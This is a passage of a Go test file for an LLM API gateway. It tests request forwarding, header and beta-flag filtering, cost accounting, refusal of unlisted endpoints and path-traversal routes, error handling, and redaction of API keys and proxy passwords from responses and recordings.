package gateway_test

import (
	"bufio"
	"bytes"
	"context"
	"encoding/json"
	"encoding/pem"
	"errors"
	"fmt"
	"io"
	"log"
	"net"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"go.uber.org/goleak"

	"pawl"
	"pawl/agent"
	"pawl/agent/gateway"
	"pawl/agent/wire"
	"pawl/internal/modeltest"
	"pawl/kernel/effect"
)

func TestMain(m *testing.M) {
	if at := os.Getenv(loadEnv); at != "" {
		runLoad(at)
		return
	}
	goleak.VerifyTestMain(m, goleak.IgnoreAnyFunction("net/http.(*persistConn).readLoop"),
		goleak.IgnoreAnyFunction("net/http.(*persistConn).writeLoop"),
		// A server lets a connection linger that it closes with something unread.
		goleak.IgnoreAnyFunction("net/http.(*conn).closeWriteAndWait"))
}

func TestEveryFormPassesAsItIsAndIsPaidFor(t *testing.T) {
	script := modeltest.Script{Branches: []modeltest.Branch{{Steps: []modeltest.Step{{Text: "I will look.",
		Calls: []modeltest.Call{{Run: "ls"}}, In: 321, Out: 45}}}}}
	for _, w := range wires() {
		t.Run(w.name, func(t *testing.T) {
			srv := modeltest.Go(t, script)
			r := serve(t, gateway.Config{Providers: providers(srv.URL)})
			status, got, err := r.do("POST", w.path, w.body)
			if status != 200 || err != nil {
				t.Fatalf("%d %v %s", status, err, got)
			}
			r.stop()
			asked := srv.Requests()
			if len(asked) != 1 || asked[0].Key != realKey || asked[0].Body != w.body || asked[0].Form != w.form {
				t.Fatalf("the endpoint got %+v", asked)
			}
			_, direct, _ := strings.Cut(w.path[1:], "/")
			resp, err := http.Post(srv.URL+"/"+direct, "application/json", strings.NewReader(w.body))
			if err != nil {
				t.Fatal(err)
			}
			defer resp.Body.Close()
			want, _ := io.ReadAll(resp.Body)
			if got != string(want) {
				t.Errorf("the answer changed on its way:\n%s\n%s", got, want)
			}
			cost := r.host.check(t, 1)
			if cost != (effect.Usage{Requests: 1, InTokens: 321, OutTokens: 45, MicroUSD: 771}) {
				t.Errorf("cost %+v", cost)
			}
			if most := r.host.reserved[0]; most.OutTokens != 500 || most.InTokens < 20 ||
				most.MicroUSD != most.InTokens+5000 {
				t.Errorf("reserved %+v", most)
			}
			if r.lane.Usage() != cost || r.lane.Err() != nil {
				t.Errorf("the lane tells %+v, %v", r.lane.Usage(), r.lane.Err())
			}
		})
	}
}

func TestWhatIsSetAside(t *testing.T) {
	srv := modeltest.Go(t, modeltest.Liar())
	r := serve(t, gateway.Config{Providers: providers(srv.URL), MaxOut: func(model string) int64 {
		if model == "small" {
			return 700
		}
		return 0
	}})
	for body, want := range map[string]effect.Usage{
		`{"model":"mock-model","n":3,"max_tokens":10}`: {OutTokens: 30},
		`{"model":"mock-model"}`:                       {OutTokens: 32000},
		`{"model":"small","n":2}`:                      {OutTokens: 1400, Unpriced: true},
	} {
		if status, got, _ := r.do("POST", "/openai/v1/chat/completions", body); status != 200 {
			t.Fatalf("%d %s", status, got)
		}
		r.host.mu.Lock()
		most := r.host.reserved[len(r.host.reserved)-1]
		r.host.mu.Unlock()
		if most.OutTokens != want.OutTokens || most.Unpriced != want.Unpriced || most.Requests != 1 {
			t.Errorf("%s: %+v", body, most)
		}
	}
}

// TestAnAliasIsPricedByTheModelThatAnswered has an endpoint that knows better than the agent which model it is.
func TestAnAliasIsPricedByTheModelThatAnswered(t *testing.T) {
	at := endpoint(t, func(w http.ResponseWriter, r *http.Request) {
		_, _ = io.WriteString(w, `{"model":"mock-model","choices":[],"usage":{"prompt_tokens":7,"completion_tokens":3}}`)
	})
	r := serve(t, gateway.Config{Providers: providers(at)})
	if status, _, _ := r.do("POST", "/openai/v1/chat/completions", `{"model":"default"}`); status != 200 {
		t.Fatal(status)
	}
	r.stop()
	if cost := r.host.check(t, 1); cost.Unpriced || cost.MicroUSD != 37 || !r.host.reserved[0].Unpriced {
		t.Errorf("%+v, reserved %+v", cost, r.host.reserved[0])
	}
}

// endpoint is an endpoint of the test's own.
func endpoint(t *testing.T, h http.HandlerFunc) string {
	t.Helper()
	srv := httptest.NewServer(h)
	t.Cleanup(srv.Close)
	return srv.URL
}

func TestWhatIsPassedOn(t *testing.T) {
	var got http.Header
	var uri string
	at := endpoint(t, func(w http.ResponseWriter, r *http.Request) {
		got, uri = r.Header.Clone(), r.RequestURI
		w.Header().Set("Set-Cookie", "a=b")
		w.Header().Set("X-Ratelimit-Remaining", "7")
		w.Header().Set("X-Other", "x")
		_, _ = io.WriteString(w, `{"data":[]}`)
	})
	r := serve(t, gateway.Config{Providers: providers(at)})
	for _, c := range []struct{ method, path, uri, header, value string }{
		{"GET", "/openai/v1/models?limit=5&key=x", "/v1/models?limit=5", "Authorization", "Bearer " + realKey},
		{"GET", "/openai/models/org/name:free", "/v1/models/org/name:free", "Authorization", "Bearer " + realKey},
		{"GET", "/anthropic/v1/models", "/v1/models", "X-Api-Key", realKey},
		{"POST", "/anthropic/v1/messages/count_tokens?beta=true", "/v1/messages/count_tokens?beta=true",
			"Anthropic-Version", "2023-06-01"},
		{"GET", "/gemini/v1beta/models?pageSize=9", "/v1beta/models?pageSize=9", "X-Goog-Api-Key", realKey},
		{"POST", "/gemini/v1beta/models/m-1:countTokens", "/v1beta/models/m-1:countTokens", "X-Goog-Api-Key", realKey},
	} {
		resp, err := http.DefaultClient.Do(r.request(c.method, c.path, "{}"))
		if err != nil {
			t.Fatal(err)
		}
		_ = resp.Body.Close()
		if resp.StatusCode != 200 || uri != c.uri || got.Get(c.header) != c.value {
			t.Errorf("%s %s: %d, sent to %s with %v", c.method, c.path, resp.StatusCode, uri, got)
		}
		if resp.Header.Get("Set-Cookie") != "" || resp.Header.Get("X-Other") != "" ||
			resp.Header.Get("X-Ratelimit-Remaining") != "7" {
			t.Errorf("answered with %v", resp.Header)
		}
		if strings.Contains(fmt.Sprint(got), "dummy") || got.Get("X-Forwarded-For") != "" {
			t.Errorf("passed on what names the agent: %v", got)
		}
	}
	r.host.check(t, 0) // none of these costs anything
}

// TestOnlyKnownBetasArePassedOn: what a real Claude Code sends goes on, but for larger contexts and what reaches out.
func TestOnlyKnownBetasArePassedOn(t *testing.T) {
	var got http.Header
	at := endpoint(t, func(w http.ResponseWriter, r *http.Request) { got = r.Header.Clone() })
	const ours = "claude-code-20250219,oauth-2025-04-20,interleaved-thinking-2025-05-14,redact-thinking-2026-02-12," +
		"thinking-token-count-2026-05-13,context-management-2025-06-27,prompt-caching-scope-2026-01-05," +
		"mid-conversation-system-2026-04-07,advanced-tool-use-2025-11-20,effort-2025-11-24,structured-outputs-2025-12-15"
	for _, hosted := range []bool{false, true} {
		p := providers(at)
		own := p["anthropic"]
		own.Hosted = hosted
		p["anthropic"] = own
		r := serve(t, gateway.Config{Providers: p})
		req := r.request("POST", "/anthropic/v1/messages/count_tokens", "{}")
		req.Header["Anthropic-Beta"] = []string{ours + ", context-1m-2025-08-07, Fast-Mode-2026-02-01",
			"server-side-fallback-2026-06-01,invented,context-managementx-2025-06-27,mcp-client-2025-11-20"}
		req.Header.Set("Openai-Beta", "responses=experimental,assistants=v2")
		resp, err := http.DefaultClient.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		_ = resp.Body.Close()
		want := ours
		if hosted {
			want += ",mcp-client-2025-11-20"
		}
		if v := got["Anthropic-Beta"]; len(v) != 1 || v[0] != want {
			t.Errorf("granted %t: %q", hosted, v)
		}
		if v := got["Openai-Beta"]; len(v) != 1 || v[0] != "responses=experimental" {
			t.Errorf("granted %t: %q", hosted, v)
		}
	}
}

func TestRefusesEverythingElse(t *testing.T) {
	asked := 0
	at := endpoint(t, func(http.ResponseWriter, *http.Request) { asked++ })
	r := serve(t, gateway.Config{Providers: providers(at)})
	for _, c := range []struct{ method, path, shape string }{
		{"GET", "/", "message"}, {"GET", "/other/v1/models", "message"}, {"CONNECT", "/openai/v1/models", "message"},
		{"POST", "/openai/v1/embeddings", "permission_error"}, {"POST", "/openai/v1/files", "permission_error"},
		{"DELETE", "/openai/v1/models/x", "permission_error"},
		{"GET", "/openai/v1/responses/resp_1", "permission_error"}, {"POST", "/openai/v1/../v1/chat/completions",
			"permission_error"},
		{"POST", "/openai/v1/chat%2Fcompletions/x", "permission_error"}, {"POST", "/openai/v1/messages",
			"permission_error"},
		{"POST", "/anthropic/v1/messages/batches", "permission_error"}, {"POST", "/anthropic/v1/files",
			"permission_error"}, {"GET", "/anthropic/v1/messages", "permission_error"},
		{"POST", "/gemini/v1beta/models/m:batchGenerateContent", "PERMISSION_DENIED"}, {"POST",
			"/gemini/v1beta/cachedContents", "PERMISSION_DENIED"},
		{"POST", "/gemini/v1beta/models/../files/m:generateContent", "PERMISSION_DENIED"}, {"POST",
			"/gemini/upload/v1beta/files", "PERMISSION_DENIED"},
	} {
		status, body, err := r.do(c.method, c.path, `{"model":"mock-model"}`)
		if status != 403 && c.method != "CONNECT" || err != nil || c.method != "CONNECT" &&
			(!strings.Contains(body, c.shape) || !json.Valid([]byte(body))) {
			t.Errorf("%s %s: %d %s %v", c.method, c.path, status, body, err)
		}
	}
	if asked != 0 {
		t.Errorf("%d requests went through", asked)
	}
	r.host.check(t, 0)
}

func TestACallThatDoesNotFitIsNotMade(t *testing.T) {
	srv := modeltest.Go(t, modeltest.Liar())
	for _, w := range wires() {
		r := serve(t, gateway.Config{Providers: providers(srv.URL)})
		r.host.refuse = pawl.Fail(pawl.CodeBudget, "kernel.budget_used", "run:RUN-1", "USD", "0.0100", "0.0000",
			"0.1000")
		status, body, err := r.do("POST", w.path, w.body)
		want := 402
		if w.form == wire.Responses {
			want = 400 // codex tries any other status again
		}
		if status != want || err != nil || !strings.Contains(body, "pawl: ") {
			t.Errorf("%s: %d %s %v", w.name, status, body, err)
		}
		if pawl.CodeOf(r.lane.Err()) != pawl.CodeBudget {
			t.Errorf("%s: the lane tells %v while it is served", w.name, r.lane.Err())
		}
		// What would fit later is not made either.
		r.host.mu.Lock()
		r.host.refuse = nil
		r.host.mu.Unlock()
		if status, _, _ = r.do("POST", w.path, w.body); status != want {
			t.Errorf("%s: a later call got %d", w.name, status)
		}
		r.host.check(t, 0)
	}
	if n := len(srv.Requests()); n != 0 {
		t.Errorf("%d requests reached the endpoint", n)
	}
}

// tripper is an endpoint without a network.
type tripper func(*http.Request) (*http.Response, error)

func (f tripper) RoundTrip(r *http.Request) (*http.Response, error) { return f(r) }

// endsWith is a body that ends with an error.
type endsWith struct{ error }

func (e endsWith) Read([]byte) (int, error) { return 0, e.error }

func streamOf(raw []byte, end error) *http.Response {
	h := http.Header{"Content-Type": {"text/event-stream"}}
	return &http.Response{StatusCode: 200, Header: h,
		Body: io.NopCloser(io.MultiReader(bytes.NewReader(raw), endsWith{end})), ContentLength: -1}
}

func TestEveryCutIsSettledAndSeen(t *testing.T) {
	tools := map[wire.Form]string{wire.Chat: "run_terminal_cmd", wire.Responses: "run_terminal_cmd",
		wire.Messages: "Bash", wire.Gemini: "run_shell_command"}
	for i, w := range wires() {
		if i%2 == 1 {
			continue
		}
		t.Run(string(w.form), func(t *testing.T) {
			whole := modeltest.Recorded(w.form, modeltest.Call{Args: `{"command":"ls"}`}, tools[w.form])
			var cuts []int
			for i := range whole {
				if !testing.Short() || i%17 == 0 {
					cuts = append(cuts, i)
				}
			}
			cuts = append(cuts, len(whole))
			ps := providers("http://model.test")
			at := 0
			for name, p := range ps {
				p.Transport = tripper(func(*http.Request) (*http.Response,
					error) {
					return streamOf(whole[:at], io.ErrUnexpectedEOF), nil
				})
				ps[name] = p
			}
			r := serve(t, gateway.Config{Providers: ps})
			n := len(cuts)
			for _, at = range cuts {
				status, got, err := r.do("POST", w.path, w.body)
				if status != 200 || got != string(whole[:at]) || !errors.Is(err, io.ErrUnexpectedEOF) {
					t.Fatalf("cut at %d: %d, %d bytes, %v", at, status, len(got), err)
				}
			}
			r.stop()
			r.host.check(t, n)
			last := effect.Usage{}
			for i, cost := range r.host.settled {
				if cost.InTokens <= 0 || cost.OutTokens <= 0 || cost.MicroUSD <= 0 || cost.Requests != 1 {
					t.Fatalf("cut %d costs %+v", i, cost)
				}
				last = cost
			}
			if last.InTokens != 100 || last.OutTokens != 10 {
				t.Errorf("the whole stream costs %+v", last)
			}
			if pawl.CodeOf(r.lane.Err()) != pawl.CodeEnvironment {
				t.Errorf("the lane tells %v", r.lane.Err())
			}
			if len(r.kept) != n || !r.kept[n-1].Cut || r.kept[n-1].Bytes != int64(len(whole)) {
				t.Errorf("recorded %d exchanges, the last one %+v", len(r.kept), r.kept[len(r.kept)-1])
			}
		})
	}
}

// TestNothingIsHeldBack has the endpoint say its next word only once the agent has heard the one before.
func TestNothingIsHeldBack(t *testing.T) {
	heard := make(chan struct{})
	at := endpoint(t, func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/event-stream")
		w.(http.Flusher).Flush()
		for i := range 5 {
			select {
			case <-heard:
			case <-r.Context().Done():
				return
			}
			_, _ = fmt.Fprintf(w, "data: {\"choices\":[{\"delta\":{\"content\":\"w%d\"}}]}\n", i)
			w.(http.Flusher).Flush()
			_, _ = io.WriteString(w, "\n")
			w.(http.Flusher).Flush()
		}
	})
	r := serve(t, gateway.Config{Providers: providers(at)})
	ctx, cancel := context.WithTimeout(context.Background(), 20*time.Second)
	defer cancel()
	resp, err := http.DefaultClient.Do(r.request("POST", "/openai/v1/chat/completions",
		`{"model":"mock-model","stream":true}`).WithContext(ctx))
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	lines := bufio.NewReader(resp.Body)
	for i := range 5 {
		select {
		case heard <- struct{}{}:
		case <-ctx.Done():
			t.Fatal("a piece is held back")
		}
		line, err := lines.ReadString('\n')
		if err != nil || !strings.Contains(line, fmt.Sprintf("w%d", i)) {
			t.Fatalf("%q %v", line, err)
		}
		if _, err := lines.ReadString('\n'); err != nil {
			t.Fatal(err)
		}
	}
	if _, err := io.ReadAll(lines); err != nil {
		t.Fatal(err)
	}
	r.stop()
	if cost := r.host.check(t, 1); cost.OutTokens < 5 || cost.InTokens == 0 {
		t.Errorf("an answer without figures costs %+v", cost)
	}
	if pawl.CodeOf(r.lane.Err()) != pawl.CodeEnvironment {
		t.Errorf("an answer without its end is told as %v", r.lane.Err())
	}
}

func TestTheAgentHangsUp(t *testing.T) {
	gone := make(chan struct{})
	at := endpoint(t, func(w http.ResponseWriter, r *http.Request) {
		_, _ = io.ReadAll(r.Body)
		w.Header().Set("Content-Type", "text/event-stream")
		_, _ = io.WriteString(w, "data: {\"choices\":[{\"delta\":{\"content\":\"a few words of an answer\"}}]}\n\n")
		w.(http.Flusher).Flush()
		<-r.Context().Done()
		close(gone)
	})
	r := serve(t, gateway.Config{Providers: providers(at)})
	ctx, cancel := context.WithCancel(context.Background())
	resp, err := http.DefaultClient.Do(r.request("POST", "/openai/v1/chat/completions",
		`{"model":"mock-model","stream":true}`).WithContext(ctx))
	if err != nil {
		t.Fatal(err)
	}
	if _, err := resp.Body.Read(make([]byte, 10)); err != nil {
		t.Fatal(err)
	}
	cancel()
	_ = resp.Body.Close()
	<-gone // the endpoint is told, so that it stops
	r.stop()
	if cost := r.host.check(t, 1); cost.OutTokens < 5 || cost.InTokens < 5 || cost.MicroUSD == 0 {
		t.Errorf("cost %+v", cost)
	}
	if r.lane.Err() != nil {
		t.Errorf("the lane tells %v", r.lane.Err())
	}
}

// TestTheLaneEndsInTheMiddle wants every call settled when Serve returns.
func TestTheLaneEndsInTheMiddle(t *testing.T) {
	begun := make(chan struct{}, 8)
	at := endpoint(t, func(w http.ResponseWriter, r *http.Request) {
		_, _ = io.ReadAll(r.Body)
		begun <- struct{}{}
		<-r.Context().Done()
	})
	r := serve(t, gateway.Config{Providers: providers(at)})
	var agents sync.WaitGroup
	for range 8 {
		agents.Go(func() { _, _, _ = r.do("POST", "/openai/v1/chat/completions", `{"model":"mock-model"}`) })
	}
	for range 8 {
		<-begun
	}
	r.stop()
	if cost := r.host.check(t, 8); cost.InTokens == 0 {
		t.Errorf("calls that went out and were not answered cost %+v", cost)
	}
	if r.lane.Err() != nil {
		t.Errorf("the lane tells %v", r.lane.Err())
	}
	agents.Wait()
}

func TestTheKeyIsNowhere(t *testing.T) {
	at := endpoint(t, func(w http.ResponseWriter, r *http.Request) {
		// An endpoint that repeats everything.
		if r.Header.Get("Authorization") == "Bearer "+realKey && strings.HasSuffix(r.URL.Path, "/completions") {
			w.WriteHeader(http.StatusUnauthorized)
		}
		_, _ = fmt.Fprintf(w, `{"error":{"message":"Incorrect API key provided: %s"}}`, r.Header.Get("Authorization"))
	})
	var file bytes.Buffer
	rec := agent.NewRecorder[gateway.Exchange](&file)
	r := serve(t, gateway.Config{Providers: providers(at), Record: rec.Record})
	status, body, err := r.do("POST", "/openai/v1/chat/completions",
		`{"model":"mock-model","messages":[{"content":"I found `+realKey+` somewhere"}]}`)
	if status != 401 || err != nil || !strings.Contains(body, "[key]") {
		t.Fatalf("%d %s %v", status, body, err)
	}
	if pawl.CodeOf(r.lane.Err()) != pawl.CodeLogin {
		t.Fatalf("the lane tells %v", r.lane.Err())
	}
	r.stop()
	if !strings.Contains(file.String(), "[key]") {
		t.Fatal(file.String())
	}
	for what, text := range map[string]string{"answer": body,
		"error": fmt.Sprintf("%v %#v", r.lane.Err(), r.lane.Err()), "recording": file.String()} {
		if strings.Contains(text, realKey) {
			t.Errorf("the key is in the %s: %s", what, text)
		}
	}
	// A bad proxy's password is a secret as well.
	ps := providers(at)
	p := ps["openai"]
	p.Proxy = func(*http.Request) (*url.URL, error) {
		return nil, errors.New("no such proxy: http://me:secretword@proxy:1")
	}
	ps["openai"] = p
	r = serve(t, gateway.Config{Providers: ps})
	_, body, _ = r.do("POST", "/openai/v1/chat/completions", `{"model":"mock-model"}`)
	r.stop()
	if text := body + fmt.Sprintf("%v %+v", r.lane.Err(), r.kept); strings.Contains(text, "secretword") ||
		!strings.Contains(text, "no such proxy") {
		t.Error(text)
	}
}

func TestFailuresOfTheEndpoint(t *testing.T) {
	closed := "http://127.0.0.1:1"
	silent := endpoint(t, func(w http.ResponseWriter, r *http.Request) {
		_, _ = io.ReadAll(r.Body)
		<-r.Context().Done()
	})
	answers := func(status int, h ...string) string {
		return endpoint(t, func(w http.ResponseWriter, r *http.Request) {
			for i := 0; i < len(h); i += 2 {
				w.Header().Set(h[i], h[i+1])
			}
			w.WriteHeader(status)
			_, _ = io.WriteString(w, `{"error":{"message":"scripted"}}`)
		})
	}
	long := endpoint(t, func(w http.ResponseWriter, r *http.Request) {
		_, _ = io.WriteString(w, strings.Repeat("x", 5000))
	})
	for _, c := range []struct {
		name, at string
		status   int
		code     pawl.Code
		key      string
		free     bool // nothing was answered, so nothing was used
	}{
		{"closed", closed, 502, pawl.CodeEnvironment, "agent.gateway_unreachable", true},
		{"silent", silent, 504, pawl.CodeEnvironment, "agent.gateway_silent", false},
		{"rate", answers(429, "Retry-After", "7"), 429, pawl.CodeEnvironment, "agent.gateway_rate", true},
		{"rate for hours", answers(429, "Retry-After", "7200"), 429, pawl.CodeEnvironment, "agent.gateway_spent", true},
		{"nothing left", answers(402), 402, pawl.CodeEnvironment, "agent.gateway_spent", true},
		{"broken", answers(503), 503, pawl.CodeEnvironment, "agent.gateway_status", true},
		{"forbidden", answers(403), 403, pawl.CodeLogin, "agent.gateway_key", true},
		{"not found", answers(404), 404, pawl.CodeEnvironment, "agent.gateway_status", true},
		{"elsewhere", answers(307, "Location", "http://127.0.0.1:1/"), 502, pawl.CodeModel, "agent.gateway_status",
			true},
		{"too long", long, 200, pawl.CodeModel, "agent.gateway_reply", false},
		{"no URL", "ftp://x", 502, pawl.CodeInvalid, "agent.gateway_url", true},
	} {
		t.Run(c.name, func(t *testing.T) {
			r := serve(t, gateway.Config{Providers: providers(c.at),
				Limits: gateway.Limits{First: time.Second, Reply: 4000}})
			resp, err := http.DefaultClient.Do(r.request("POST", "/openai/v1/chat/completions",
				`{"model":"mock-model"}`))
			if err != nil {
				t.Fatal(err)
			}
			_, _ = io.ReadAll(resp.Body)
			_ = resp.Body.Close()
			if resp.StatusCode != c.status {
				t.Errorf("status %d", resp.StatusCode)
			}
			if c.name == "rate" && resp.Header.Get("Retry-After") != "7" {
				t.Errorf("Retry-After is lost: %v", resp.Header)
			}
			last := !slices.Contains([]string{"rate", "broken", "not found", "elsewhere", "too long"}, c.name)
			if err := r.lane.Refused(); (err != nil) != last {
				t.Errorf("the lane ended for good: %v", err)
			}
			r.stop()
			var e *pawl.Error
			if !errors.As(r.lane.Err(), &e) || e.Code != c.code || e.Key != c.key {
				t.Errorf("the lane tells %v", r.lane.Err())
			}
			cost := r.host.check(t, 1)
			if cost.Requests != 1 || (cost.InTokens == 0) != c.free {
				t.Errorf("cost %+v", cost)
			}
		})
	}
}

// TestEnoughIsEnough: a provider that answers with errors again and again ends the work, and one that gets over them
// does not.
func TestEnoughIsEnough(t *testing.T) {
	for _, c := range []struct {
		times int
		ends  bool
	}{{4, false}, {5, true}} {
		script := modeltest.Passing(503, c.times, "0")
		srv := modeltest.Go(t, script)
		r := serve(t, gateway.Config{Providers: providers(srv.URL)})
		for range c.times {
			if status, _, _ := r.do("POST", "/openai/v1/chat/completions", `{"model":"mock-model"}`); status != 503 {
				t.Fatalf("status %d", status)
			}
		}
		status, _, _ := r.do("POST", "/openai/v1/chat/completions", `{"model":"mock-model"}`)
		if (status != 200) != c.ends || pawl.CodeOf(r.lane.Refused()) != map[bool]pawl.Code{true: pawl.CodeEnvironment}[c.ends] {
			t.Errorf("after %d: status %d, %v", c.times, status, r.lane.Refused())
		}
	}
}

// pass accepts one token.
type pass struct {
	token   string
	refused func(token string) error
}

func (p pass) Accepts(token string) bool { return token == p.token }

func (p pass) Refused(_ context.Context, token string) error { return p.refused(token) }

// TestATokenOfItsOwn: the agent's token goes on as it is, with the headers that belong to it, and no other one does; a
// refusal is told to who can renew it before it is told to the agent; and the token is in no recording.
func TestATokenOfItsOwn(t *testing.T) {
	const mine = "tok-the-agents-own-token"
	var seen []http.Header
	status := http.StatusOK
	at := endpoint(t, func(w http.ResponseWriter, r *http.Request) {
		seen = append(seen, r.Header.Clone())
		w.WriteHeader(status)
		_, _ = io.WriteString(w, `{"usage":{"input_tokens":3,"output_tokens":2},"say":"`+mine+`","query":"`+
			r.URL.RawQuery+`"}`)
	})
	var told []string
	p := gateway.Provider{Kind: wire.OpenAI, URL: at, Key: key, Unpriced: true,
		Pass: pass{mine, func(token string) error {
			told = append(told, token)
			if len(told) > 1 {
				return pawl.Fail(pawl.CodeLogin, "login.refused", "codex", "codex login")
			}
			return nil
		}}}
	r := serve(t, gateway.Config{Providers: map[string]gateway.Provider{"own": p}})
	ask := func(tokens ...string) int {
		req := r.request("POST", "/own/v1/responses?client_version=1&key=x", `{"model":"mock-model","input":"hello"}`)
		req.Header["Authorization"] = nil
		for _, t := range tokens {
			req.Header.Add("Authorization", t)
		}
		req.Header.Set("Chatgpt-Account-Id", "acc")
		req.Header.Set("X-Openai-Internal-X", "y")
		resp, err := http.DefaultClient.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		defer resp.Body.Close()
		_, _ = io.ReadAll(resp.Body)
		return resp.StatusCode
	}
	for _, other := range [][]string{nil, {"Bearer other"}, {"Bearer " + mine + "x"}, {"Basic " + mine},
		{"Bearer " + mine, "Bearer other"}} {
		if got := ask(other...); got != 403 || len(seen) > 0 {
			t.Fatalf("%v: status %d, %d went out", other, got, len(seen))
		}
	}
	if got := ask("Bearer " + mine); got != 200 || len(seen) != 1 {
		t.Fatalf("status %d", got)
	}
	h := seen[0]
	if h.Get("Authorization") != "Bearer "+mine || h.Get("Chatgpt-Account-Id") != "acc" ||
		h.Get("X-Openai-Internal-X") != "y" || h.Get("Cookie") != "" || h.Get("X-Api-Key") != "" {
		t.Errorf("%v", h)
	}
	if cost := r.host.check(t, 1); !cost.Unpriced || cost.MicroUSD != 0 || cost.InTokens == 0 {
		t.Errorf("cost %+v", cost)
	}
	for i, want := range []bool{false, true} {
		status = http.StatusUnauthorized
		if got := ask("Bearer " + mine); got != 401 || (r.lane.Refused() != nil) != want || len(told) != i+1 ||
			told[i] != mine {
			t.Errorf("status %d, told %v, ended: %v", got, told, r.lane.Refused())
		}
	}
	r.stop()
	raw, _ := json.Marshal(r.kept)
	if len(r.kept) != 3 || strings.Contains(string(raw), mine) || !strings.Contains(string(raw), "client_version=1") ||
		strings.Contains(string(raw), "key=x") {
		t.Errorf("%s", raw)
	}
}

func TestALaterSuccessForgetsAFailure(t *testing.T) {
	script := modeltest.Liar()
	script.Branches[0].Steps[0].Status = 500
	srv := modeltest.Go(t, script)
	r := serve(t, gateway.Config{Providers: providers(srv.URL)})
	tooled := `{"model":"mock-model","tools":` + offered + `}`
	for i, want := range []int{500, 200} {
		if status, _, _ := r.do("POST", "/openai/v1/chat/completions", tooled); status != want {
			t.Fatalf("call %d got %d", i, status)
		}
	}
	// A call on the side does not count.
	srv.Play(modeltest.Failing(500))
	_, _, _ = r.do("POST", "/openai/v1/chat/completions", `{"model":"mock-model"}`)
	r.stop()
	if r.lane.Err() != nil {
		t.Errorf("the lane tells %v", r.lane.Err())
	}
}

func TestNoKeyNoCall(t *testing.T) {
	ps := providers("http://127.0.0.1:1")
	p := ps["anthropic"]
	p.Key = func() (string, error) { return "", pawl.Fail(pawl.CodeLogin, "agent.no_model") }
	ps["anthropic"] = p
	r := serve(t, gateway.Config{Providers: ps})
	status, body, _ := r.do("POST", "/anthropic/v1/messages", `{"model":"mock-model","max_tokens":1}`)
	if status != 401 || !strings.Contains(body, "authentication_error") || pawl.CodeOf(r.lane.Err()) != pawl.CodeLogin {
		t.Errorf("%d %s, the lane tells %v", status, body, r.lane.Err())
	}
	if cost := r.host.check(t, 1); cost.InTokens != 0 {
		t.Errorf("cost %+v", cost)
	}
}

func TestCallsAtOneTimeAndLongRequests(t *testing.T) {
	var mu sync.Mutex
	now, most, total := 0, 0, 0
	at := endpoint(t, func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		now++
		total++
		most = max(most, now)
		mu.Unlock()
		_, _ = io.ReadAll(r.Body)
		_, _ = io.WriteString(w, `{"choices":[{"message":{"content":"x"},"finish_reason":"stop"}],"usage":{"prompt_tokens":7,"completion_tokens":3}}`)
		mu.Lock()
		now--
		mu.Unlock()
	})
	r := serve(t, gateway.Config{Providers: providers(at), Limits: gateway.Limits{Calls: 3, Body: 3 << 20}})
	long := `{"model":"mock-model","messages":"` + strings.Repeat("word ", 400_000) + `"}`
	var agents sync.WaitGroup
	for i := range 40 {
		agents.Go(func() {
			body := `{"model":"mock-model"}`
			if i%4 == 0 {
				body = long
			}
			if status, got, err := r.do("POST", "/openai/v1/chat/completions", body); status != 200 || err != nil {
				t.Errorf("%d %s %v", status, got, err)
			}
		})
	}
	agents.Wait()
	r.stop()
	if most > 3 || total != 40 {
		t.Errorf("%d calls at one time, %d in all", most, total)
	}
	if u := r.lane.Usage(); u != (effect.Usage{Requests: 40, InTokens: 280, OutTokens: 120, MicroUSD: 1480}) {
		t.Errorf("usage %+v", u)
	}
	r.host.check(t, 40)
	r = serve(t, gateway.Config{Providers: providers(at), Limits: gateway.Limits{Body: 1000}})
	if status, body, _ := r.do("POST", "/openai/v1/chat/completions", long); status != 413 ||
		!json.Valid([]byte(body)) {
		t.Errorf("%d %s", status, body)
	}
	r.host.check(t, 0)
}

func TestCertificatesAndProxies(t *testing.T) {
	srv := httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		_,
			_ = io.WriteString(w, `{"data":[]}`)
	}))
	srv.Config.ErrorLog = log.New(io.Discard, "", 0)
	srv.StartTLS()
	defer srv.Close()
	ca := filepath.Join(t.TempDir(), "ca.pem")
	if err := os.WriteFile(ca, pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: srv.Certificate().Raw}),
		0o600); err != nil {
		t.Fatal(err)
	}
	for name, want := range map[string]int{"": 502, ca: 200, ca + ".none": 502} {
		ps := providers(srv.URL)
		p := ps["openai"]
		p.CAFile = name
		ps["openai"] = p
		r := serve(t, gateway.Config{Providers: ps})
		if status, body, _ := r.do("GET", "/openai/v1/models", ""); status != want {
			t.Errorf("%q: %d %s", filepath.Base(name), status, body)
		}
		r.stop()
	}
	asked := ""
	proxy := endpoint(t, func(w http.ResponseWriter, r *http.Request) { asked = r.RequestURI })
	ps := providers("http://model.test")
	p := ps["openai"]
	p.Proxy = func(*http.Request) (*url.URL, error) { return url.Parse(proxy) }
	ps["openai"] = p
	r := serve(t, gateway.Config{Providers: ps})
	if status, _, _ := r.do("GET", "/openai/v1/models", ""); status != 200 || asked != "http://model.test/v1/models" {
		t.Errorf("%d, the proxy was asked for %q", status, asked)
	}
}

func TestLanes(t *testing.T) {
	if _, err := gateway.New(gateway.Config{}).Route(context.Background(), &host{},
		"x"); pawl.CodeOf(err) != pawl.CodeInvalid {
		t.Errorf("a gateway to nowhere: %v", err)
	}
	g := gateway.New(gateway.Config{Providers: providers("http://127.0.0.1:1")})
	if _, err := g.Route(context.Background(), nil, "x"); err == nil {
		t.Error("a lane without a host")
	}
	l, err := g.Route(context.Background(), &host{}, "x")
	if err != nil || l.URL("gemini") != "/gemini" || l.URL("other") != "" || l.Err() != nil ||
		l.Usage() != (effect.Usage{}) {
		t.Errorf("%v %q %q", err, l.URL("gemini"), l.URL("other"))
	}
	// A lane ends with the effect that it was made for.
	ctx, cancel := context.WithCancel(context.Background())
	short, err := g.Route(ctx, &host{}, "x")
	if err != nil {
		t.Fatal(err)
	}
	open, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	cancel()
